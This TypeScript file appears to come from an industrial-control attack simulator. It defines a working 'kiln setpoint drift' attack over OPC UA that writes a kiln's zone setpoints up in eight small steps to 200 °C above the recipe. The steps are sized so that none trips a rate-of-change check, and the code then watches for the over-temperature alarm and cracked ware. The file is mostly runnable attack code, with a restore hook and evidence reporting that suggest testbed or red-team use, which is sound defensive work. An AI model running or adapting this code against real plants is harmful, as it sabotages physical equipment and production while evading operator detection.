/**
 * Modify parameter on OPC UA: the kiln's zone setpoints raised in small steps (each one
 * looks like an operator's trim, and none trips a rate-of-change check) until the zones fire
 * far above the recipe. Ware fired too hot cracks; the attack watches for the first cracked
 * part, and for the over-temperature alarm.
 */
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import { before, cracked, movedTags, needTag, now, restore, round, trail, watchForCracks } from './common.ts';

/** how far above the recipe the setpoints end [°C] */
const OVER = 200;
/** steps of the drift */
const STEPS = 8;
/** wall time between two steps [ms] */
const STEP_MS = 250;


export const kilnSetpointDrift: Attack = {
  id: 'kiln-setpoint-drift',
  title: 'Kiln setpoint drift: zone setpoints raised in small steps until the ware cracks',
  techniques: [T.modifyParameter],
  face: 'opcua',
  preconditions: ['a session that may write setpoints (anonymous under a weak profile, or an operator\'s account)', 'the kiln\'s node ids (opcua-browse)'],
  steps: [
    'open a session; read the zones in use, their setpoints and recipe temperatures',
    `raise every zone setpoint in ${STEPS} small steps to ${OVER} °C above the recipe`,
    'watch for the over-temperature alarm and the first cracked part',
  ],
  expectedImpact: `zones fire ${OVER} °C above the recipe: the over-temperature alarm, then cracked ware (escaped or scrapped parts)`,
  async run(ctx) {
    // the client library loads on demand, so `attack list` answers at once
    const { nodeOf, openSession, readNumber, reason, writeDouble } = await import('../clients/opcua.ts');
    const evidence: string[] = [];
    const was = await before(ctx);
    needTag(was, 'sp1', this.id, 'kiln');
    const f = await openSession(ctx, evidence);
    const moved: Record<string, [number, number]> = {};
    let refusedWith: string | null = f === null ? 'no session' : null;
    if (f !== null) {
      try {
        const zones = Math.max(1, Math.min(4, (await readNumber(f, nodeOf(f, `${ctx.station}.zones`))) ?? 1));
        const plan: { field: string; from: number; to: number }[] = [];
        for (let z = 1; z <= zones; z++) {
          const from = await readNumber(f, nodeOf(f, `${ctx.station}.sp${z}`));
          const recipe = await readNumber(f, nodeOf(f, `${ctx.station}.recipe${z}`));
          if (from !== null && recipe !== null) plan.push({ field: `sp${z}`, from, to: Math.min(1800, recipe + OVER) });
        }
        evidence.push(`OPC UA: ${ctx.station} zones ${zones}; drift ${plan.map((p) => `${p.field} ${p.from} → ${p.to} °C`).join(', ')}`);
        for (let k = 1; k <= STEPS && refusedWith === null; k++) {
          for (const p of plan) {
            const value = round(p.from + ((p.to - p.from) * k) / STEPS, 1);
            const status = await writeDouble(f, nodeOf(f, `${ctx.station}.${p.field}`), value);
            if (status !== 'Good') {
              refusedWith = `write ${p.field} = ${value} → ${status}`;
              break;
            }
            moved[p.field] = [p.from, value];
          }
          await new Promise((r) => setTimeout(r, STEP_MS));
        }
        evidence.push(refusedWith === null ? `OPC UA: every step written (${STEPS} per zone)` : `OPC UA: ${refusedWith}`);
      } catch (e) {
        refusedWith = reason(e);
        evidence.push(`OPC UA: ${refusedWith}`);
      } finally {
        await f.close();
      }
    }
    // watch the line: the alarm, and ware coming out cracked
    let evs = await watchForCracks(ctx, Object.keys(moved).length > 0);
    const after = await now(ctx);
    evs = await trail(ctx, evidence, refusedWith !== null);
    const setpoints = movedTags(was, after, ['sp1', 'sp2', 'sp3', 'sp4']);
    const hot = ['t1', 't2', 't3', 't4'].filter((t) => was !== null && after !== null && after.tags[t]! > was.tags[t]! + 0.5);
    const zoneTemps: Record<string, [number, number]> = {};
    for (const t of hot) zoneTemps[t] = [round(was!.tags[t]!), round(after!.tags[t]!)];
    const overTemp = evs.some((e) => e.type === 'alarm' && e.station === ctx.station && e.data.code === 'OVERTEMP');
    const movedSeen = after !== null ? Object.keys(setpoints).length > 0 : Object.keys(moved).length > 0;
    return {
      outcome: movedSeen ? 'succeeded' : 'blocked',
      evidence,
      impact: { setpoints: after !== null ? setpoints : moved, zoneTemps, overTempAlarm: overTemp, crackedParts: cracked(evs) },
    };
  },
  cleanup: restore,
};
